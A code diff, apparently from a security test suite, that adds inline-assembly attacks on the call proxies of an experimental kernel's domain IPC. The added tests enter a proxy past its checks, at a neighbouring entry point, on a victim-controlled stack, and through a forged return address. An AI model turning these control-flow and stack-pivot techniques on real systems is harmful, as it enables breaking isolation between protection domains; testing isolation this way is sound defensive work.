@@ -2,6 +2,9 @@
  *
  * Into another domain's code: by every instruction that moves RIP, and beside the doors that there are.
  */
+#define _GNU_SOURCE
+#include <setjmp.h>
+#include <signal.h>
 #include <string.h>
 #include <sys/mman.h>
 
@@ -63,21 +66,55 @@ int attack_past_the_proxy(void) {
 /* Behind the proxy's look at RSP: what follows stores at R10 with the proxy's right over the victim. The place
  * is known from os/kernel/dipc/proxy.cpp: nothing in it is secret. */
 enum { BEHIND_THE_CHECKS = 35 };
-static void into_the_proxy(uint64_t entry, uint64_t r10) {
-    __asm__ volatile("mov %1, %%r10\n xor %%r11d, %%r11d\n call *%0"
-                     :
-                     : "r"(entry), "r"(r10)
-                     : "r10", "r11", "rax", "rcx", "rdx", "rsi", "rdi", "r8", "r9", "memory", "cc");
+/* Its book-keeping is given the victim's memory instead of the kernel control stack's, and goes through with it. */
+static __attribute__((noinline)) long into_the_proxy(uint64_t entry, uint64_t r10, uint64_t rax) {
+    __asm__ volatile("mov %2, %%r10\n mov %3, %%r11\n call *%1"
+                     : "+a"(rax)
+                     : "r"(entry), "r"(r10), "r"(own_kcs()), "D"(20), "S"(22)
+                     : "r10", "r11", "rcx", "rdx", "r8", "r9", "memory", "cc");
+    return (long)rax;
 }
 int attack_beside_the_entry(void) {
-    into_the_proxy(proxies[WORK].proxy + BEHIND_THE_CHECKS, address_of(AT_RESULTS));
-    return inconclusive("it came back");
+    const long r = into_the_proxy(proxies[WORK].proxy + BEHIND_THE_CHECKS, address_of(AT_RESULTS), 0);
+    return r == 42 ? got_in("a call began behind the proxy's checks") : inconclusive("it gave %ld", r);
 }
 
-/* Every multiple of 64 is an entry point to the hardware. The proxy's other ones hold `ud2`. */
+/* Every multiple of 64 is an entry point to the hardware, and the proxy's other ones hold `ud2`. Without it there
+ * would be `mov [rax + 24], rsp`, with the proxy's rights. The rest of the book-keeping is left over from a call
+ * that was made in order, from the same place. */
 int attack_next_entry(void) {
-    into_the_proxy(proxies[WORK].proxy + 64, address_of(AT_RESULTS));
-    return inconclusive("it came back");
+    const uint64_t results = address_of(AT_RESULTS), record = own_kcs() + 0x1000;
+    long r = 0;
+    for (uint64_t at = 0; at <= 64; at += 64) r = into_the_proxy(proxies[WORK].proxy + at, record, results);
+    return r == 42 ? got_in("the proxy could be entered in its middle") : inconclusive("it gave %ld", r);
+}
+
+/* The proxy calls on the stack that RSP points to, and whom it calls has rights over the victim. */
+static sigjmp_buf home;
+static void come_home(int sig) { siglongjmp(home, 1); }
+int attack_proxy_on_victims_stack(void) {
+    static char stack[16384] __attribute__((aligned(16)));
+    const stack_t alternate = {.ss_sp = stack, .ss_size = sizeof stack};
+    struct sigaction a = {.sa_handler = come_home, .sa_flags = SA_ONSTACK | SA_NODEFER};
+    const uint64_t at = address_of(AT_RESULTS) + 264;
+    sigaltstack(&alternate, 0);
+    sigaction(SIGSEGV, &a, 0);
+    if (sigsetjmp(home, 1)) return got_in("the proxy took the victim's results for a stack");
+    __asm__ volatile("mov %0, %%rsp\n jmp *%1" : : "r"(at), "r"(proxies[LEND].proxy) : "memory");
+    __builtin_unreachable();
+}
+
+/* No call, no return capability: where the proxy's own `ret` goes is on the stack. It is sent behind the
+ * checks. */
+int attack_jump_to_the_proxy(void) {
+    const uint64_t before = address_of(AT_CALLS);
+    __asm__ volatile("lea 1f(%%rip), %%rax\n push %%rax\n push %1\n jmp *%0\n 1:"
+                     :
+                     : "r"(proxies[WORK].proxy), "r"(proxies[WORK].proxy + BEHIND_THE_CHECKS), "D"(20), "S"(22)
+                     : "rax", "r10", "r11", "rcx", "rdx", "r8", "r9", "memory", "cc");
+    const uint64_t calls = address_of(AT_CALLS) - before;
+    return calls == 2 ? got_in("the proxy returned into its own middle and called once more")
+                      : inconclusive("%lu calls", (unsigned long)calls);
 }
 
 /* Code that no page has been put in for: the page fault comes between the jump and its check. */
